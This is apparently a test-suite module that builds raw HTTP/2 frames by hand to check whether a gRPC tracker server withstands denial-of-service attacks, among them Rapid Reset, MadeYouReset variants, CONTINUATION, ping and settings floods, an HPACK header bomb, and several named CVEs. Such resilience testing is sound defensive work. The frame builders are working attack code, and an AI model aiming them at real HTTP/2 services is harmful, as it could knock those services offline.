"""HTTP/2 by hand, for attacks that no client library would carry out: frames, and headers without compression."""

from __future__ import annotations

import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, closing, suppress

from tests.attacks import clients
from tests.server.processes import Server

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
CONNECTIONS = 2
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header that is neither compressed nor remembered; both parts have less than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(method: bytes = b"GetServerInfo") -> bytes:
    """Return the headers of a call."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", b"/substream.tracker.v1.Tracker/" + method),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )


def settings(*values: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *each) for each in values))


def streams(count: int, after_headers: Callable[[int], bytes]) -> bytes:
    """Return so many calls, each with frames after its headers."""
    head = block()
    return b"".join(
        frame(HEADERS, END_HEADERS, number, head) + after_headers(number) for number in range(1, 2 * count, 2)
    )


def rapid_reset(count: int) -> bytes:
    return streams(count, lambda number: frame(RST_STREAM, 0, number, CANCEL))


def made_you_reset(count: int) -> bytes:
    """Return streams that the server has to reset: a window that grows by nothing (CVE-2025-8671)."""
    return streams(count, lambda number: frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 0)))


def made_you_reset_by_overflow(count: int) -> bytes:
    """Return frames that grow a window beyond its bound."""
    return streams(count, lambda number: frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 0x7FFF_FFFF)))


def made_you_reset_by_end(count: int) -> bytes:
    """Return frames with data after the end of a stream."""
    return streams(count, lambda number: frame(DATA, END_STREAM, number, bytes(5)) + frame(DATA, 0, number, bytes(5)))


def made_you_reset_by_head(count: int) -> bytes:
    """Return heads that are none (CVE-2019-9514)."""
    head = literal(b":path", b"/") + literal(b"UPPER", b"case")
    return b"".join(frame(HEADERS, END_HEADERS, number, head) for number in range(1, 2 * count, 2))


def made_you_reset_by_priority(count: int) -> bytes:
    return streams(count, lambda number: frame(PRIORITY, 0, number, struct.pack(">I", number) + b"\x10"))


def empty_data(count: int) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, block(b"ReportStream")) + frame(DATA, 0, 1) * count


def continuations(count: int) -> bytes:
    part = literal(b"x" * 100, b"y" * 100)
    return frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1, part * 70) * (count // 10 + 1)


def empty_continuations(count: int) -> bytes:
    return frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1) * count


def empty_headers(count: int) -> bytes:
    """Return headers without name and value (CVE-2019-9516)."""
    return streams(count // 100, lambda number: frame(HEADERS, END_HEADERS, number, literal(b"", b"") * 1000))


def priorities(count: int) -> bytes:
    """Return streams that depend on one another, in an order that changes (CVE-2019-9513)."""
    return b"".join(
        frame(PRIORITY, 0, 2 * (n % 50) + 1, struct.pack(">I", 2 * (n * 7 % 50) + 101) + b"\x10") for n in range(count)
    )


def window_flood(count: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * count


def large_settings(count: int) -> bytes:
    """Return frames that set everything again and again (CVE-2020-11080)."""
    return settings(*[(3, 100)] * 2700) * (count // 100)


def unknown_frames(count: int) -> bytes:
    return frame(0xEE, 0, 0, bytes(100)) * count


def settings_flood(count: int) -> bytes:
    return settings((4, 65_535)) * count


def ping_flood(count: int) -> bytes:
    return frame(PING, 0, 0, b"12345678") * count


def header_bomb(count: int) -> bytes:
    """Return frames that send a large header once, and then name it by one byte, again and again."""
    remembered = b"\x40" + b"\x01x" + b"\x7f" + bytes([(3000 - 127) & 0x7F | 0x80, (3000 - 127) >> 7]) + b"y" * 3000
    named = remembered + b"\xbe" * 10_000
    head = block()
    return b"".join(
        frame(HEADERS, END_HEADERS, number, head + named) for number in range(1, 2 * max(2, count // 500), 2)
    )


def no_window(count: int) -> bytes:
    """Return frames for answers that may not be sent, since the caller takes no byte of them."""
    return settings((4, 0)) + streams(min(count, 1000), lambda number: frame(DATA, END_STREAM, number, bytes(5)))


def small_windows(count: int) -> bytes:
    """Return frames for answers that are taken byte by byte (CVE-2019-9511)."""
    numbers = range(1, 2 * min(count, 1000), 2)
    byte_each = b"".join(frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 1)) for number in numbers)
    return no_window(count) + byte_each * 20


def unread(count: int) -> bytes:
    """Return frames for answers that may be sent, into a connection of which nobody reads."""
    wide = struct.pack(">I", 0x7FFF_0000)
    return (
        settings((4, 0x7FFF_0000))
        + frame(WINDOW_UPDATE, 0, 0, wide)
        + streams(count, lambda number: frame(DATA, END_STREAM, number, bytes(5)))
    )


def slow_heads(count: int) -> bytes:
    """Return heads that are never finished."""
    return frame(HEADERS, 0, 1, block()[:50])


class Http2:
    """An attack for `attacks.ATTACKS`.

    Args:
        make: the frames of a connection.
        count: how many frames or streams.
        hold: seconds for which connections stay that the server has not closed.
        reads: whether what the server sends is taken.
        connections: at once.
    """

    def __init__(
        self,
        make: Callable[[int], bytes],
        count: int = 20_000,
        hold: float = 0.01,
        reads: bool = True,
        connections: int = 2,
    ) -> None:
        self._make = make
        self._count = count
        self._hold = hold
        self._reads = reads

    def prepare(self, server: Server, scale: float) -> bytes:
        return self._make(max(2_000, int(self._count * scale)))

    def strike(self, server: Server, scale: float, data: bytes) -> Counter[str]:
        """Send on all connections at once. Return whether the server has closed them meanwhile."""
        answers = Counter[str]()
        with ExitStack() as stack:
            opened = [stack.enter_context(closing(connect(server))) for _ in range(CONNECTIONS)]
            for connection in opened:
                connection.sendall(PREFACE + settings())
            rest = dict.fromkeys(opened, 0)
            while rest:  # in turns, so that one that is paused holds no other up
                for connection, sent in list(rest.items()):
                    connection.settimeout(1)
                    try:
                        connection.sendall(data[sent : sent + 65_536])
                        rest[connection] += 65_536
                        connection.setblocking(False)
                        with suppress(BlockingIOError, ssl.SSLWantReadError):
                            while self._reads:
                                if not connection.recv(1 << 16):
                                    raise ConnectionResetError
                        if rest[connection] >= len(data):
                            del rest[connection]
                            answers["TAKEN"] += 1
                    except TimeoutError:
                        del rest[connection]
                        answers["PAUSED"] += 1
                    except OSError:
                        del rest[connection]
                        answers["CLOSED"] += 1
            if set(answers) != {"CLOSED"}:
                time.sleep(self._hold)
        return answers


def connect(server: Server) -> socket.socket:
    """Connect as somebody who has no token, over TLS if the server has it."""
    host, _, port = server.address.rpartition(":")
    plain = socket.create_connection((host, int(port)), 10)
    ca = clients.credentials(server, "attacker").ca
    if ca is None:
        return plain
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain, server_hostname=host)
